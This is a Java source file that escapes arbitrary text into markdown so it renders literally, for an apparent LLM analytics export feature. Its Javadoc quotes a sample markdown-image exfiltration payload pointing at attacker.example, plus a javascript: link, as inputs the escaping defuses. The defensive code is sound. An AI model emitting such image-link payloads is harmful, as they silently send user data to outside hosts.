package io.llmanalytics.export;

/**
 * Text (a question, a model's interpretation, a column name or a value) written into markdown so that it renders as
 * the same text and as nothing else: no link, image, autolink, raw HTML, heading, list, table, emphasis or code.
 *
 * <p>Every ASCII punctuation character is escaped (CommonMark lets any of them be backslash-escaped, and Jupyter's
 * renderers follow it), {@code < > &} as HTML entities so that no renderer can see a tag or an entity in them. So
 * {@code ![x](https://attacker.example/leak?d=...)} shows as that text and loads nothing, {@code [a](javascript:...)}
 * and reference-style links are no links, and GFM's bare autolinks ({@code https://...}, {@code www.}, e-mail
 * addresses) are broken by the escaped {@code : / . @}. Line breaks of every kind ({@code \r\n}, {@code \r},
 * U+0085, U+2028, U+2029) become {@code \n}; other control characters become spaces.
 */
public final class MarkdownText {

    private static final String PUNCTUATION = "!\"#$%'()*+,-./:;=?@[\\]^_`{|}~";

    private MarkdownText() {}

    /** {@code text} as markdown that renders as exactly that text (lines kept, line breaks normalised). */
    public static String escape(String text) {
        if (text == null) {
            return "";
        }
        String lines = normaliseLineBreaks(text);
        StringBuilder out = new StringBuilder(lines.length() + lines.length() / 4);
        for (int i = 0; i < lines.length(); i++) {
            char c = lines.charAt(i);
            switch (c) {
                case '<' -> out.append("&lt;");
                case '>' -> out.append("&gt;");
                case '&' -> out.append("&amp;");
                case '\n', '\t' -> out.append(c);
                default -> {
                    if (PUNCTUATION.indexOf(c) >= 0) {
                        out.append('\\').append(c);
                    } else if (Character.getType(c) == Character.CONTROL) {
                        out.append(' ');
                    } else {
                        out.append(c);
                    }
                }
            }
        }
        return out.toString();
    }

    /** {@code text} on one line (every line break a space), escaped: for headings. */
    public static String escapeLine(String text) {
        return escape(normaliseLineBreaks(text == null ? "" : text).replace('\n', ' '));
    }

    /** Every line break variant ({@code \r\n}, {@code \r}, U+0085, U+2028, U+2029, vertical tab, form feed) as {@code \n}. */
    static String normaliseLineBreaks(String text) {
        return text.replace("\r\n", "\n")
                .replace('\r', '\n')
                .replace('\u0085', '\n')
                .replace('\u2028', '\n')
                .replace('\u2029', '\n')
                .replace('\u000b', '\n')
                .replace('\f', '\n');
    }
}
